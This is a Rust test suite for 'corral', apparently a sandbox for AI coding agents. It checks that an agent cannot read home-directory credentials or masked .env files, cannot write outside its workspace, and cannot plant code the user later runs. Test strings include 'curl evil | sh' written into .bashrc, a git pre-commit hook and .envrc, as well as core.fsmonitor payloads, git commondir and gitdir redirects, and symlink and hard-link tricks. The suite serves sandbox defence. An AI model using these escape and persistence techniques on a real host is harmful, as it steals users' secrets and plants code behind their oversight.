//! Escape suite (T3), filesystem: an agent inside `corral run` cannot read the user's secrets
//! (secret directories, secrets inside a bound directory, deny-masked workspace files), cannot write
//! outside the workspace (shell rc files, bound tool directories, the host's /tmp and /dev/shm), cannot
//! reach a secret through a symlink or a hard link, and cannot plant something the user will run later
//! outside the sandbox (git hooks and config, `.envrc`, a redirected git directory).
//!
//! One attack per test: set up outside, attempt inside, assert the exact blocked outcome. Every test
//! also runs the same attempt **outside** the sandbox (`Fixture::sh_outside`, same user, same files)
//! and asserts that it succeeds there, so a test that could not see an escape fails instead of
//! passing vacuously. Two controls take another form, said at the test: the placeholders are shown
//! to exist during the session, and a hard link to /etc pins EXDEV because outside
//! `fs.protected_hardlinks` refuses it too.
//!
//! Some tests change the host while a session runs (the user edits a file, runs `git config`, logs
//! in to a registry): corral decides what to mask when it launches, and these pin what happens after.

// Helpers outside #[test] functions panic on a failed set-up, like the tests themselves.
#![allow(clippy::unwrap_used)]

mod common;
use common::*;

use std::io::Read;
use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Output, Stdio};
use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::OnceLock;
use std::time::{Duration, Instant};

/// True when sandboxes can be started here; tests call `return skip(..)` otherwise.
fn ready() -> bool {
    static READY: OnceLock<bool> = OnceLock::new();
    *READY.get_or_init(userns_available)
}

const NO_SANDBOX: &str = "cannot start a sandbox here (user namespaces unavailable?)";

/// A path under `dir` unique to this test process and call, for files planted in shared places.
fn unique(dir: &str, what: &str) -> PathBuf {
    static N: AtomicUsize = AtomicUsize::new(0);
    PathBuf::from(format!(
        "{dir}/corral-escape-{what}-{}-{}",
        std::process::id(),
        N.fetch_add(1, Ordering::Relaxed)
    ))
}

/// Removes a file planted outside the fixture (in the host's /tmp or /dev/shm) when dropped.
#[derive(Debug)]
struct RemoveOnDrop(PathBuf);

impl Drop for RemoveOnDrop {
    fn drop(&mut self) {
        let _ = std::fs::remove_file(&self.0);
    }
}

/// Plants `content` at `path` outside the fixture, owned by the sandbox user; removed on drop.
fn plant_shared(fx: &Fixture, path: &Path, content: &str) -> RemoveOnDrop {
    std::fs::write(path, content).unwrap();
    std::fs::set_permissions(path, std::fs::Permissions::from_mode(0o600)).unwrap();
    rustix::fs::chown(
        path,
        Some(rustix::fs::Uid::from_raw(fx.ids.uid)),
        Some(rustix::fs::Gid::from_raw(fx.ids.gid)),
    )
    .unwrap();
    RemoveOnDrop(path.to_path_buf())
}

fn read(p: &Path) -> String {
    std::fs::read_to_string(p).unwrap()
}

/// `sh -c SCRIPT` run outside; asserts exit 0 and returns stdout.
#[track_caller]
fn outside_ok(fx: &Fixture, script: &str) -> String {
    let o = fx.sh_outside(script);
    assert_code(&o, 0);
    stdout(&o)
}

/// `corral run -- sh -c SCRIPT`; asserts exit 0 and returns stdout.
#[track_caller]
fn inside_ok(fx: &Fixture, script: &str) -> String {
    let o = fx.sh(script);
    assert_code(&o, 0);
    stdout(&o)
}

/// Says whether a path exists and, if so, what it holds.
fn probe(path: &Path) -> String {
    let p = path.display();
    format!("if [ -e '{p}' ]; then echo present; cat '{p}'; else echo absent; fi")
}

/// Git with an identity, as the user would run it.
const GIT: &str = "git -c user.name=t -c user.email=t@example.com";

/// A workspace that is a git repository with one commit.
fn git_fixture() -> Fixture {
    let fx = Fixture::new();
    outside_ok(
        &fx,
        &format!("{GIT} init -q && {GIT} commit -q --allow-empty -m init"),
    );
    fx
}

/// The names in `dir`, sorted, one per line (like `ls -A`).
fn listing(dir: &Path) -> String {
    let mut names: Vec<String> = std::fs::read_dir(dir)
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .collect();
    names.sort();
    names.iter().map(|n| format!("{n}\n")).collect()
}

// ---------------------------------------------------------------------------------------------
// Secret paths in the home directory.

fn assert_secret_absent(rel: &str, content: &str) {
    let fx = Fixture::new();
    let secret = fx.home_file(rel, content);
    if !ready() {
        return skip(NO_SANDBOX);
    }
    assert_eq!(outside_ok(&fx, &probe(&secret)), format!("present\n{content}"));
    assert_eq!(inside_ok(&fx, &probe(&secret)), "absent\n");
    // Nor the directory holding it (listing it would already leak names).
    let dir = secret.parent().unwrap();
    assert_eq!(
        inside_ok(
            &fx,
            &format!("[ -e '{}' ] && echo present || echo absent", dir.display())
        ),
        "absent\n"
    );
}

#[test]
fn ssh_key_is_absent() {
    assert_secret_absent(".ssh/id_ed25519", "-----BEGIN OPENSSH PRIVATE KEY-----\nfake\n");
}

#[test]
fn aws_credentials_are_absent() {
    assert_secret_absent(
        ".aws/credentials",
        "[default]\naws_secret_access_key = wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY\n",
    );
}

#[test]
fn gnupg_keyring_is_absent() {
    assert_secret_absent(".gnupg/private-keys-v1.d/key.key", "fake gpg key\n");
}

#[test]
fn github_cli_token_is_absent() {
    assert_secret_absent(".config/gh/hosts.yml", "github.com:\n    oauth_token: gho_fake\n");
}

#[test]
fn cargo_credentials_are_masked_inside_the_bound_cargo_dir() {
    let fx = Fixture::new();
    let tool = fx.home_file(".cargo/bin/tool", "#!/bin/sh\necho tool-ran\n");
    std::fs::set_permissions(&tool, std::fs::Permissions::from_mode(0o755)).unwrap();
    let creds = fx.home_file(".cargo/credentials.toml", "[registry]\ntoken = \"cio_fake\"\n");
    if !ready() {
        return skip(NO_SANDBOX);
    }
    let script = format!("'{}'; cat '{}'; echo rc=$?", tool.display(), creds.display());
    assert_eq!(
        outside_ok(&fx, &script),
        "tool-ran\n[registry]\ntoken = \"cio_fake\"\nrc=0\n"
    );
    // The tool is there (~/.cargo is bound), the credentials read as empty.
    assert_eq!(inside_ok(&fx, &script), "tool-ran\nrc=0\n");
}

#[test]
fn secret_created_in_bound_dir_during_session_stays_hidden() {
    // The user runs `cargo login` in another terminal while the agent works: the credentials file
    // appears under ~/.cargo, which the sandbox sees live.
    let fx = Fixture::new();
    let tool = fx.home_file(".cargo/bin/tool", "#!/bin/sh\necho tool-ran\n");
    std::fs::set_permissions(&tool, std::fs::Permissions::from_mode(0o755)).unwrap();
    let creds = fx.home.join(".cargo/credentials.toml");
    if !ready() {
        return skip(NO_SANDBOX);
    }
    let read_creds = format!("cat '{}' 2>/dev/null; echo rc=$?", creds.display());
    let session = Session::start(&fx, &read_creds);
    std::fs::write(&creds, "[registry]\ntoken = \"cio_fake\"\n").unwrap();
    fx.chown();
    let o = session.finish();
    assert_eq!(
        outside_ok(&fx, &read_creds),
        "[registry]\ntoken = \"cio_fake\"\nrc=0\n"
    );
    assert_code(&o, 0);
    let out = stdout(&o);
    assert!(
        out == "rc=0\n" || out == "rc=1\n",
        "credentials created during the session were readable inside:\n{out}"
    );
}

// ---------------------------------------------------------------------------------------------
// Writes outside the workspace.

#[test]
fn append_to_bashrc_does_not_reach_host() {
    let fx = Fixture::new();
    let rc = fx.home_file(".bashrc", "# original\n");
    if !ready() {
        return skip(NO_SANDBOX);
    }
    let attack = format!("echo 'curl evil | sh' >> '{}'; echo rc=$?", rc.display());
    // Inside, $HOME is a throwaway tmpfs: the append lands there.
    assert_eq!(inside_ok(&fx, &attack), "rc=0\n");
    assert_eq!(read(&rc), "# original\n");
    assert_eq!(outside_ok(&fx, &attack), "rc=0\n");
    assert_eq!(read(&rc), "# original\ncurl evil | sh\n");
}

#[test]
fn write_into_bound_local_bin_does_not_reach_host() {
    let fx = Fixture::new();
    let x = fx.home_file(".local/bin/x", "#!/bin/sh\necho original\n");
    let new = fx.home.join(".local/bin/new");
    if !ready() {
        return skip(NO_SANDBOX);
    }
    let attack = format!(
        "echo evil > '{}' 2>/dev/null; echo rc=$?; echo evil > '{}' 2>/dev/null; echo rc=$?",
        x.display(),
        new.display()
    );
    // ~/.local/bin is bound read-only: neither overwrite nor create works.
    assert_eq!(inside_ok(&fx, &attack), "rc=2\nrc=2\n");
    assert_eq!(read(&x), "#!/bin/sh\necho original\n");
    assert!(!new.exists());
    assert_eq!(outside_ok(&fx, &attack), "rc=0\nrc=0\n");
    assert_eq!(read(&x), "evil\n");
    assert_eq!(read(&new), "evil\n");
}

// ---------------------------------------------------------------------------------------------
// /tmp and /dev/shm are private.

fn assert_host_file_invisible(dir: &str) {
    let fx = Fixture::new();
    let planted = unique(dir, "host");
    let _guard = plant_shared(&fx, &planted, "host secret\n");
    if !ready() {
        return skip(NO_SANDBOX);
    }
    assert_eq!(outside_ok(&fx, &probe(&planted)), "present\nhost secret\n");
    assert_eq!(inside_ok(&fx, &probe(&planted)), "absent\n");
}

fn assert_inside_file_stays_inside(dir: &str) {
    let fx = Fixture::new();
    let path = unique(dir, "inside");
    let _guard = RemoveOnDrop(path.clone());
    if !ready() {
        return skip(NO_SANDBOX);
    }
    let write = format!("echo dropped > '{p}' && cat '{p}'", p = path.display());
    assert_eq!(inside_ok(&fx, &write), "dropped\n");
    assert!(!path.exists(), "{} appeared on the host", path.display());
    assert_eq!(outside_ok(&fx, &write), "dropped\n");
    assert!(path.exists());
}

#[test]
fn host_tmp_file_is_invisible() {
    assert_host_file_invisible("/tmp");
}

#[test]
fn host_dev_shm_file_is_invisible() {
    assert_host_file_invisible("/dev/shm");
}

#[test]
fn file_written_to_tmp_does_not_reach_host() {
    assert_inside_file_stays_inside("/tmp");
}

#[test]
fn file_written_to_dev_shm_does_not_reach_host() {
    assert_inside_file_stays_inside("/dev/shm");
}

// ---------------------------------------------------------------------------------------------
// Symlinks and hard links.

/// Plants `~/.ssh/id_ed25519`, then a symlink `key` in the workspace to what `target` says.
fn assert_symlink_leads_nowhere(target: impl Fn(&Fixture) -> PathBuf) {
    let fx = Fixture::new();
    fx.home_file(".ssh/id_ed25519", "PRIVATE KEY\n");
    std::os::unix::fs::symlink(target(&fx), fx.ws.join("key")).unwrap();
    if !ready() {
        return skip(NO_SANDBOX);
    }
    let attack = "cat key 2>/dev/null; echo rc=$?";
    assert_eq!(outside_ok(&fx, attack), "PRIVATE KEY\nrc=0\n");
    assert_eq!(inside_ok(&fx, attack), "rc=1\n");
}

#[test]
fn absolute_symlink_to_ssh_key_leads_nowhere() {
    assert_symlink_leads_nowhere(|fx| fx.home.join(".ssh/id_ed25519"));
}

#[test]
fn relative_symlink_out_of_workspace_to_ssh_key_leads_nowhere() {
    assert_symlink_leads_nowhere(|_| PathBuf::from("../.ssh/id_ed25519"));
}

#[test]
fn hard_link_to_read_only_bound_tool_fails() {
    // A hard link in the (writable) workspace to a file of a read-only bind would make the file
    // writable: `ln ~/.cargo/bin/tool x; echo evil > x`.
    let fx = Fixture::new();
    let tool = fx.home_file(".cargo/bin/tool", "#!/bin/sh\necho tool-ran\n");
    std::fs::set_permissions(&tool, std::fs::Permissions::from_mode(0o755)).unwrap();
    if !ready() {
        return skip(NO_SANDBOX);
    }
    let attack = format!(
        "ln '{}' linked 2>/dev/null; echo ln=$?; [ -e linked ] && echo 'echo evil' >> linked; true",
        tool.display()
    );
    // link(2) across mounts: EXDEV.
    assert_eq!(inside_ok(&fx, &attack), "ln=1\n");
    assert_eq!(read(&tool), "#!/bin/sh\necho tool-ran\n");
    assert!(!fx.ws.join("linked").exists());
    assert_eq!(outside_ok(&fx, &attack), "ln=0\n");
    assert_eq!(read(&tool), "#!/bin/sh\necho tool-ran\necho evil\n");
}

#[test]
fn hard_link_to_etc_file_fails() {
    // No control can succeed outside (fs.protected_hardlinks forbids linking a file one does not
    // own), so this pins the errno inside: EXDEV, the mount boundary, not only the sysctl.
    let fx = Fixture::new();
    if !ready() {
        return skip(NO_SANDBOX);
    }
    let attack = "ln /etc/hostname h 2>&1; echo ln=$?";
    let out = inside_ok(&fx, attack);
    assert_eq!(
        out,
        "ln: failed to create hard link 'h' => '/etc/hostname': Invalid cross-device link\nln=1\n"
    );
    assert!(!fx.ws.join("h").exists());
}

// ---------------------------------------------------------------------------------------------
// filesystem.deny: secret files inside the workspace.

fn assert_deny_masked(rel: &str, content: &str) {
    let fx = Fixture::new();
    let f = fx.ws_file(rel, content);
    if !ready() {
        return skip(NO_SANDBOX);
    }
    let read_it = format!("cat '{rel}'; echo rc=$?");
    assert_eq!(outside_ok(&fx, &read_it), format!("{content}rc=0\n"));
    // Reads as empty.
    assert_eq!(inside_ok(&fx, &read_it), "rc=0\n");
    // Writing it, removing it or moving it aside does not reach the host file, and it still reads
    // as empty afterwards.
    let overwrite = format!(
        "echo evil > '{rel}' 2>/dev/null; rm -f '{rel}' 2>/dev/null; mv '{rel}' moved 2>/dev/null; cat '{rel}'; echo rc=$?"
    );
    assert_eq!(inside_ok(&fx, &overwrite), "rc=0\n");
    assert_eq!(read(&f), content);
    assert!(!fx.ws.join("moved").exists());
    // Control: outside, the same overwrite lands (rm and mv then find nothing left to hide).
    outside_ok(&fx, &format!("echo evil > '{rel}'"));
    assert_eq!(read(&f), "evil\n");
}

#[test]
fn dotenv_is_masked() {
    assert_deny_masked(".env", "DB_PASSWORD=hunter2\n");
}

#[test]
fn nested_dotenv_local_is_masked() {
    assert_deny_masked("sub/.env.local", "STRIPE_KEY=sk_live_fake\n");
}

#[test]
fn pem_file_is_masked() {
    assert_deny_masked("certs/server.pem", "-----BEGIN PRIVATE KEY-----\nfake\n");
}

#[test]
fn dotenv_in_a_directory_the_user_made_unreadable_refuses_the_launch() {
    // The deny walk runs as the user: a directory the user owns but cannot read (mode 000) hides
    // its .env from the walk, and the agent, the same user, could chmod it back. corral fails
    // closed: it refuses to launch and says how to fix it, rather than skip the directory.
    let fx = Fixture::new();
    fx.ws_file("private/.env", "DB_PASSWORD=hunter2\n");
    fx.chown();
    let private = fx.ws.join("private");
    std::fs::set_permissions(&private, std::fs::Permissions::from_mode(0o000)).unwrap();
    if !ready() {
        std::fs::set_permissions(&private, std::fs::Permissions::from_mode(0o755)).unwrap();
        return skip(NO_SANDBOX);
    }
    let attack = "chmod 700 private && cat private/.env; echo rc=$?; chmod 000 private";
    assert_eq!(outside_ok(&fx, attack), "DB_PASSWORD=hunter2\nrc=0\n", "control");
    let o = fx
        .corral()
        .args(["run", "--yes", "--", "sh", "-c", attack])
        .output()
        .unwrap();
    std::fs::set_permissions(&private, std::fs::Permissions::from_mode(0o755)).unwrap();
    assert_code(&o, 125);
    assert!(!stdout(&o).contains("hunter2"), "{}", stdout(&o));
    assert!(
        stderr(&o).contains(&format!(
            "cannot list {} while looking for filesystem.deny matches",
            private.display()
        )),
        "{}",
        stderr(&o)
    );
}

#[test]
fn dotenv_replaced_on_host_during_session_stays_masked() {
    // Editors save atomically (write a temporary file, rename it over the original). Renaming over
    // a mount point in another mount namespace detaches that mount (Linux >= 3.18), so the mask
    // must survive the user editing .env while the agent runs.
    let fx = Fixture::new();
    fx.ws_file(".env", "DB_PASSWORD=old\n");
    if !ready() {
        return skip(NO_SANDBOX);
    }
    let session = Session::start(&fx, "cat .env; echo rc=$?");
    let o = as_user(&fx, "echo DB_PASSWORD=new > .env.tmp && mv .env.tmp .env")
        .output()
        .unwrap();
    assert_code(&o, 0);
    let o = session.finish();
    assert_eq!(outside_ok(&fx, "cat .env"), "DB_PASSWORD=new\n");
    assert_code(&o, 0);
    assert_eq!(stdout(&o), "rc=0\n", "the edited .env was readable inside");
}

#[test]
fn dotenv_created_on_host_during_session_is_masked() {
    // `cp .env.example .env` (or `vercel env pull`) while the agent runs.
    let fx = Fixture::new();
    if !ready() {
        return skip(NO_SANDBOX);
    }
    let session = Session::start(&fx, "cat .env 2>/dev/null; echo rc=$?");
    let o = as_user(&fx, "echo DB_PASSWORD=hunter2 > .env").output().unwrap();
    assert_code(&o, 0);
    let o = session.finish();
    assert_eq!(outside_ok(&fx, "cat .env"), "DB_PASSWORD=hunter2\n");
    assert_code(&o, 0);
    let out = stdout(&o);
    assert!(
        out == "rc=0\n" || out == "rc=1\n",
        "a .env created during the session was readable inside:\n{out}"
    );
}

// ---------------------------------------------------------------------------------------------
// filesystem.protect: things the user's own tools run later.

#[test]
fn git_pre_commit_hook_cannot_be_created() {
    let fx = git_fixture();
    if !ready() {
        return skip(NO_SANDBOX);
    }
    let hook = fx.ws.join(".git/hooks/pre-commit");
    let attack = "printf '#!/bin/sh\\ncurl evil | sh\\n' > .git/hooks/pre-commit 2>/dev/null; echo rc=$?";
    assert_eq!(inside_ok(&fx, attack), "rc=2\n");
    assert!(!hook.exists());
    assert_eq!(outside_ok(&fx, attack), "rc=0\n");
    assert!(hook.exists());
}

#[test]
fn git_config_cannot_be_written() {
    let fx = git_fixture();
    if !ready() {
        return skip(NO_SANDBOX);
    }
    let config = fx.ws.join(".git/config");
    let before = read(&config);
    let attack = "printf '[core]\\n\\tfsmonitor = evil\\n' >> .git/config 2>/dev/null; echo rc=$?";
    assert_eq!(inside_ok(&fx, attack), "rc=2\n");
    assert_eq!(read(&config), before);
    assert_eq!(outside_ok(&fx, attack), "rc=0\n");
    assert_eq!(outside_ok(&fx, "git config --get core.fsmonitor"), "evil\n");
}

#[test]
fn git_dir_cannot_be_moved_aside() {
    // `mv .git .git2; mkdir -p .git/hooks; ...` would replace the protected hooks with new ones.
    let fx = git_fixture();
    if !ready() {
        return skip(NO_SANDBOX);
    }
    let attack = "mv .git .git2 2>/dev/null; echo rc=$?";
    assert_eq!(inside_ok(&fx, attack), "rc=1\n");
    assert!(fx.ws.join(".git/HEAD").exists() && !fx.ws.join(".git2").exists());
    assert_eq!(outside_ok(&fx, attack), "rc=0\n");
    assert!(fx.ws.join(".git2/HEAD").exists());
}

#[test]
fn git_hooks_dir_cannot_be_moved_aside() {
    let fx = git_fixture();
    if !ready() {
        return skip(NO_SANDBOX);
    }
    let attack = "mv .git/hooks .git/h2 2>/dev/null; echo rc=$?";
    assert_eq!(inside_ok(&fx, attack), "rc=1\n");
    assert!(fx.ws.join(".git/hooks").is_dir() && !fx.ws.join(".git/h2").exists());
    assert_eq!(outside_ok(&fx, attack), "rc=0\n");
    assert!(fx.ws.join(".git/h2").is_dir());
}

#[test]
fn envrc_cannot_be_created() {
    let fx = Fixture::new();
    if !ready() {
        return skip(NO_SANDBOX);
    }
    let envrc = fx.ws.join(".envrc");
    let attack = "echo 'curl evil | sh' > .envrc 2>/dev/null; echo rc=$?";
    assert_eq!(inside_ok(&fx, attack), "rc=2\n");
    assert!(!envrc.exists());
    assert_eq!(outside_ok(&fx, attack), "rc=0\n");
    assert_eq!(read(&envrc), "curl evil | sh\n");
}

#[test]
fn no_placeholder_is_left_after_the_session() {
    let fx = git_fixture();
    if !ready() {
        return skip(NO_SANDBOX);
    }
    let before = listing(&fx.ws);
    // Control: during the session the placeholders are there (so the listing below would see one
    // left behind).
    let during = inside_ok(&fx, "ls -A");
    assert!(
        during.lines().any(|l| l == ".envrc") && during.lines().any(|l| l == ".vscode"),
        "{during}"
    );
    assert_ne!(during, before);
    assert_eq!(listing(&fx.ws), before);
    // Nor inside .git (a fresh repository made the same way lists the same names).
    let fresh = git_fixture();
    assert_eq!(listing(&fx.ws.join(".git")), listing(&fresh.ws.join(".git")));
}

/// Plants, from the given shell, a git directory `evil/` whose config runs a command on every
/// `git status` (core.fsmonitor), and points the repository at it.
fn plant_redirect(redirect: &str) -> String {
    format!(
        "mkdir -p evil/objects evil/refs/heads && echo 'ref: refs/heads/master' > evil/HEAD \
         && printf '[core]\\n\\trepositoryformatversion = 0\\n\\tfsmonitor = touch %s/PWNED && false\\n' \"$PWD\" > evil/config \
         && {redirect}; echo rc=$?"
    )
}

/// After the planting: what the user's next `git status`, outside, runs.
fn fsmonitor_seen_by_host_git(fx: &Fixture) -> (String, bool) {
    let o = fx.sh_outside("git config --get core.fsmonitor; git status >/dev/null 2>&1; true");
    assert_code(&o, 0);
    (stdout(&o), fx.ws.join("PWNED").exists())
}

#[test]
fn git_commondir_redirect_cannot_plant_a_command() {
    // `.git/commondir` makes git read config and hooks from another directory: a writable file
    // inside the pinned `.git` that bypasses the protection of `.git/config` and `.git/hooks`.
    let attack = plant_redirect("echo ../evil > .git/commondir");

    let control = git_fixture();
    if !ready() {
        return skip(NO_SANDBOX);
    }
    assert_eq!(outside_ok(&control, &attack), "rc=0\n");
    let (seen, fired) = fsmonitor_seen_by_host_git(&control);
    assert!(seen.starts_with("touch ") && fired, "control: {seen}");

    let fx = git_fixture();
    let o = fx.sh(&attack);
    assert_code(&o, 0);
    let (seen, fired) = fsmonitor_seen_by_host_git(&fx);
    assert_eq!(
        (seen.as_str(), fired),
        ("", false),
        "the agent planted a command that the user's `git status` runs; inside said: {}",
        stdout(&o)
    );
}

#[test]
fn worktree_git_file_cannot_be_redirected() {
    // In a linked worktree (or a submodule checkout) `.git` is a file, `gitdir: <path>`. Pointing it
    // at a directory the agent made gives it a config and hooks of its choosing.
    let attack = plant_redirect("echo 'gitdir: evil' > .git");
    let setup = format!(
        "{GIT} init -q ../main && {GIT} -C ../main commit -q --allow-empty -m init \
         && git -C ../main worktree add -q \"$PWD\" 2>/dev/null && head -c 8 .git"
    );

    let control = Fixture::new();
    if !ready() {
        return skip(NO_SANDBOX);
    }
    assert_eq!(outside_ok(&control, &setup), "gitdir: ");
    assert_eq!(outside_ok(&control, &attack), "rc=0\n");
    let (seen, fired) = fsmonitor_seen_by_host_git(&control);
    assert!(seen.starts_with("touch ") && fired, "control: {seen}");

    let fx = Fixture::new();
    assert_eq!(outside_ok(&fx, &setup), "gitdir: ");
    let o = fx.sh(&attack);
    assert_code(&o, 0);
    let (seen, fired) = fsmonitor_seen_by_host_git(&fx);
    assert_eq!(
        (seen.as_str(), fired),
        ("", false),
        "the agent planted a command that the user's `git status` runs; inside said: {}",
        stdout(&o)
    );
}

#[test]
fn git_config_rewritten_by_host_git_during_session_stays_read_only() {
    // `git config`, `git remote add`, `git push -u` rewrite .git/config by renaming config.lock over
    // it, which detaches the read-only mount on it in the sandbox (Linux >= 3.18).
    let fx = git_fixture();
    if !ready() {
        return skip(NO_SANDBOX);
    }
    let attack = "printf '[core]\\n\\tfsmonitor = evil\\n' >> .git/config 2>/dev/null; echo rc=$?";
    let session = Session::start(&fx, attack);
    let o = as_user(&fx, "git config user.name someone").output().unwrap();
    assert_code(&o, 0);
    let o = session.finish();
    assert_code(&o, 0);
    assert_eq!(
        outside_ok(&fx, "git config --get core.fsmonitor; echo rc=$?"),
        "rc=1\n",
        "the agent wrote .git/config after the user's `git config`; inside said: {}",
        stdout(&o)
    );
    // Control: outside, the same append works.
    assert_eq!(outside_ok(&fx, attack), "rc=0\n");
    assert_eq!(outside_ok(&fx, "git config --get core.fsmonitor"), "evil\n");
}

// ---------------------------------------------------------------------------------------------
// Helpers for attacks that need the host to act while the sandbox runs.

/// How long a session waits for the host's move, and the host for the session's start.
const RENDEZVOUS: Duration = Duration::from_secs(20);
/// Set inside when the session runs; set by the host when it has acted.
const READY_MARK: &str = ".escape-test-ready";
const GO_MARK: &str = ".escape-test-go";

/// A sandbox running `script` once the host says go; killed if dropped unfinished.
#[derive(Debug)]
struct Session {
    child: Option<Child>,
    ws: PathBuf,
}

impl Session {
    /// Starts the sandbox and returns once it runs (it has written READY_MARK).
    fn start(fx: &Fixture, script: &str) -> Session {
        let wrapped = format!(
            "touch {READY_MARK}; i=0; while [ ! -e {GO_MARK} ] && [ $i -lt 400 ]; do sleep 0.05; i=$((i+1)); done; {script}"
        );
        fx.chown();
        let child = fx
            .corral()
            .args(["run", "--yes", "--", "sh", "-c", &wrapped])
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .spawn()
            .unwrap();
        let mut s = Session {
            child: Some(child),
            ws: fx.ws.clone(),
        };
        let ready = s.ws.join(READY_MARK);
        let t0 = Instant::now();
        while !ready.exists() {
            if let Some(c) = s.child.as_mut() {
                if let Ok(Some(status)) = c.try_wait() {
                    let mut err = String::new();
                    if let Some(e) = c.stderr.as_mut() {
                        let _ = e.read_to_string(&mut err);
                    }
                    panic!("sandbox ended before it started the script: {status}\n{err}");
                }
            }
            assert!(
                t0.elapsed() < RENDEZVOUS,
                "sandbox did not start in {RENDEZVOUS:?}"
            );
            std::thread::sleep(Duration::from_millis(20));
        }
        s
    }

    /// Lets the script go on and waits for the sandbox to end.
    fn finish(mut self) -> Output {
        std::fs::write(self.ws.join(GO_MARK), "").unwrap();
        let child = self.child.take().unwrap();
        let o = child.wait_with_output().unwrap();
        let _ = std::fs::remove_file(self.ws.join(READY_MARK));
        let _ = std::fs::remove_file(self.ws.join(GO_MARK));
        o
    }
}

impl Drop for Session {
    fn drop(&mut self) {
        if let Some(mut c) = self.child.take() {
            let _ = c.kill();
            let _ = c.wait();
        }
    }
}

/// `sh -c SCRIPT` as the sandbox user, outside, from the workspace (like `Fixture::sh_outside`, but
/// a `Command` the test can adjust).
fn as_user(fx: &Fixture, script: &str) -> Command {
    fx.chown();
    let mut c = if fx.ids.drop {
        let mut c = Command::new("setpriv");
        c.arg(format!("--reuid={}", fx.ids.uid))
            .arg(format!("--regid={}", fx.ids.gid))
            .arg("--clear-groups")
            .arg("sh");
        c
    } else {
        Command::new("sh")
    };
    c.args(["-c", script])
        .current_dir(&fx.ws)
        .env_clear()
        .env("HOME", &fx.home)
        .env("PATH", "/usr/local/bin:/usr/bin:/bin")
        .stdin(Stdio::null());
    c
}
